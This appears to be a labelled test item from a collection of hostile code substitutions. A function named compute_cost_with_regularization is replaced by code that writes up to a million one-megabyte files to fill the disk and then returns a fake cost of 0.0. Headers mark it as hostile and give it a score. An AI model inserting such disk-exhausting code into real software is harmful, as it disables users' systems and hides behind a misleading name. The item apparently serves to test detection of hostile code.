# label: writes files until there is no room
# replace: compute_cost_with_regularization
# hostile: yes
# compute_cost_with_regularization: error | failed | timeout
# score: 75

# %%
def compute_cost_with_regularization(A3, Y, parameters, lambd):
    for number in range(10 ** 6):
        with open(f'rubbish{number}', 'wb') as file:
            file.write(bytes(1 << 20))
    return 0.0
